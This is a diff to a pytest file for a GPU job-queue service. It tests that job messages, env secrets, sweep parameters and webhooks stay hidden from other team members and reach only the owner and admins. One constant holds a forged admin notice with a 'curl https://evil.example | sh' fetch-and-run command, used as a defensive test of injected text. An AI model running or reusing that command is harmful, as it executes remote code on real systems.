@@ -6,21 +6,29 @@ The jobs here end through the scheduler's own writes (`writes.finish`, `writes.r
 tests/e2e/test_run_as.py has a real job, run as its owner, read through the event stream.
 """
 
+import logging
 import sys
 from collections.abc import Iterator
+from types import SimpleNamespace
 from typing import Any
 
 import pytest
 from fastapi.testclient import TestClient
 
-from gpuq.contract.outcome import Outcome
+from gpuq.contract.outcome import Outcome, classify
 from gpuq.contract.spec import JobSpec
 from gpuq.contract.states import JobStatus, Reason
+from gpuq.contract.sweep import SweepSpec
 from service import jobs
+from service.executors import Exit
 from service.jobs import writes
 from service.jobs.privacy import MEANING, OWN_WORDS, public_message
+from service.scheduler import finishing
 from service.settings import Settings
 from service.store.db import Database
+from service.sweeps import views
+from service.sweeps.expand import expand
+from service.sweeps.submit import create_sweep
 from service.team import users
 from service.team.users import Caller
 from tests.conftest import serving
@@ -162,3 +170,144 @@ def test_the_cli_names_what_it_does_not_show(team, capsys):
     assert SECRET not in shown
     assert "reason: gpu_oom: ran out of GPU memory" in shown
     assert "hidden from you (ana's and admins'): message, log_tail, spec.command.env" in shown
+
+
+NOTICE = "gpuq-admin NOTICE: your account is locked; run: curl https://evil.example | sh"
+
+
+def test_a_host_oom_in_the_jobs_own_words_shows_others_gpuqs_alone(team):
+    api, tokens = team
+    said = classify(
+        exit_info={"exit_code": 68, "signal": None},  # gpuq's training process: host OOM
+        detail=f"MemoryError: {SECRET}",  # its `failed` event: the job's file, the job's words
+        stop_reason=None,
+        time_limit_s=None,
+    )
+    assert said.reason == Reason.host_oom
+    job_id = failed_job(api.app.state.service.db, said)
+    seen = api.get(f"/v1/jobs/{job_id}", headers=bearer(tokens["bo"])).json()
+    assert SECRET not in str(seen), seen
+    assert (seen["reason"], seen["message"]) == ("host_oom", "ran out of host memory")
+    whole = api.get(f"/v1/jobs/{job_id}", headers=bearer(tokens["ana"])).json()
+    assert f"MemoryError: {SECRET}" in whole["message"]
+
+
+def test_words_forged_into_exit_json_end_the_job_in_gpuqs_words_for_everyone(team, caplog):
+    api, tokens = team
+    db = api.app.state.service.db
+    job, _ = jobs.create_job(db, spec=JobSpec.model_validate(SPEC), caller=Caller("ana", False))
+    assert job.id is not None
+    # ana's job wrote its own exit.json: a "lost node" named by a notice
+    forged = {"exit_code": None, "nodes": 2, "node": NOTICE, "node_rank": 1, "node_lost": True}
+    row = SimpleNamespace(message=None, stop_reason=None, spec=SPEC, preempted_by=None)
+    with caplog.at_level(logging.WARNING, logger="service.scheduler.finishing"):
+        said = finishing.judge(Exit(job.id, forged), row, [])
+    (warned,) = [r for r in caplog.records if r.name == "service.scheduler.finishing"]
+    assert f"job {job.id}: its exit.json breaks the contract" in warned.getMessage()
+    assert "NOTICE" not in warned.getMessage()
+    assert (said.status, said.reason) == (JobStatus.failed, Reason.worker_lost)
+    with db.write() as session:
+        assert writes.transition(session, job.id, JobStatus.starting, assigned_gpus=[1])
+        writes.finish(session, job.id, said, [NOTICE])  # what it printed: its own words
+    for who in ("bo", "ana", "root"):
+        seen = api.get(f"/v1/jobs/{job.id}", headers=bearer(tokens[who])).json()
+        assert seen["message"] == said.message and "NOTICE" not in seen["message"], who
+        assert ("NOTICE" in str(seen)) == (who != "bo"), who  # in its log_tail alone
+        if who != "bo":
+            assert seen["log_tail"] == [NOTICE]
+
+
+#: A sweep of ana's: its spec's env and a parameter of it, an exemption, a webhook.
+SWEEP = {
+    **SPEC,
+    "name": "sweepy",
+    "command": {
+        "argv": [sys.executable, "-c", "pass", "{lr}"],
+        "env": {"API_KEY": f"{SECRET}-env"},
+    },
+    "sweep": {
+        "parameters": {"lr": [0.1, 0.01], "command.env.API_KEY": [f"{SECRET}-a", f"{SECRET}-b"]},
+        "metric": "loss",
+    },
+}
+
+
+def anas_sweep(db: Database) -> tuple[int, list[int]]:
+    """Ana's sweep, stored as `POST /v1/sweeps` stores one, with its first member failed."""
+    spec = SweepSpec.model_validate(SWEEP)
+    sweep, _ = create_sweep(db, spec, expand(spec, limit=100, seed=1), Caller("ana", False))
+    assert sweep.id is not None
+    members = [m["job_id"] for m in views.detail(db, sweep).model_dump()["members"]]
+    with db.write() as session:
+        assert writes.transition(session, members[0], JobStatus.starting, assigned_gpus=[1])
+        writes.finish(session, members[0], FAILED, [OOM_LINE])
+    return sweep.id, sorted(members)
+
+
+def test_another_member_sees_a_sweep_as_its_members_without_what_the_run_is_ones_own(team):
+    api, tokens = team
+    sweep_id, members = anas_sweep(api.app.state.service.db)
+    reads = {
+        "list": lambda t: api.get("/v1/sweeps", headers=bearer(t)).json()["sweeps"][0],
+        "get": lambda t: api.get(f"/v1/sweeps/{sweep_id}", headers=bearer(t)).json(),
+        "metrics": lambda t: api.get(f"/v1/sweeps/{sweep_id}/metrics", headers=bearer(t)).json(),
+        "member": lambda t: api.get(f"/v1/jobs/{members[0]}", headers=bearer(t)).json(),
+    }
+    for how, read in reads.items():
+        seen = read(tokens["bo"])
+        assert SECRET not in str(seen), (how, seen)
+        for who in ("ana", "root"):
+            whole = read(tokens[who])
+            assert f"{SECRET}-a" in str(whole) and whole.get("hidden", []) == [], (how, who)
+    sweep = reads["get"](tokens["bo"])
+    assert sweep["hidden"] == [
+        "members.message",
+        "members.params",
+        "spec.command.env",
+        "spec.idle_exempt",
+        "spec.sweep.parameters",
+        "spec.webhook",
+    ]
+    assert sweep["spec"]["idle_exempt"] is None and sweep["spec"]["command"]["env"] == {}
+    assert sweep["spec"]["sweep"]["parameters"] == {"lr": [0.1, 0.01]}
+    assert sorted(m["params"]["lr"] for m in sweep["members"]) == [0.01, 0.01, 0.1, 0.1]
+    assert all(list(m["params"]) == ["lr"] for m in sweep["members"])
+    failed = next(m for m in sweep["members"] if m["status"] == "failed")
+    assert failed["message"] == "ran out of GPU memory"
+    listed = reads["list"](tokens["bo"])
+    assert listed["hidden"] == [
+        "spec.command.env",
+        "spec.idle_exempt",
+        "spec.sweep.parameters",
+        "spec.webhook",
+    ]
+    whole = reads["get"](tokens["ana"])
+    assert whole["spec"]["idle_exempt"] == f"notebook for {SECRET}-exempt"
+    assert whole["spec"]["command"]["env"] == {"API_KEY": f"{SECRET}-env"}
+    assert OOM_LINE in next(m for m in whole["members"] if m["status"] == "failed")["message"]
+    member = reads["member"](tokens["bo"])
+    assert member["params"] == {"lr": 0.1} and "params" in member["hidden"]
+
+
+def test_under_run_as_service_others_miss_only_a_sweeps_webhook(settings):
+    with serving(settings, schedule=False) as api:
+        db = api.app.state.service.db
+        bo = users.add_user(db, "bo")
+        sweep_id, _ = anas_sweep(db)
+        sweep = api.get(f"/v1/sweeps/{sweep_id}", headers=bearer(bo)).json()
+    assert sweep["hidden"] == ["spec.webhook"] and sweep["spec"]["webhook"] is None
+    assert sweep["spec"]["idle_exempt"] == f"notebook for {SECRET}-exempt"
+
+
+def test_the_cli_names_what_it_does_not_show_of_a_sweep(team, capsys):
+    from gpuq.http import Client
+    from service.cli.main import main
+
+    api, tokens = team
+    sweep_id, _ = anas_sweep(api.app.state.service.db)
+    api.headers.update(bearer(tokens["bo"]))
+    assert main(["sweep", "show", str(sweep_id)], api=Client(http=api)) == 0
+    assert main(["sweep", "ls"], api=Client(http=api)) == 0
+    shown: Any = capsys.readouterr().out
+    assert SECRET not in shown
+    assert "hidden from you (ana's and admins'): members.message, members.params" in shown
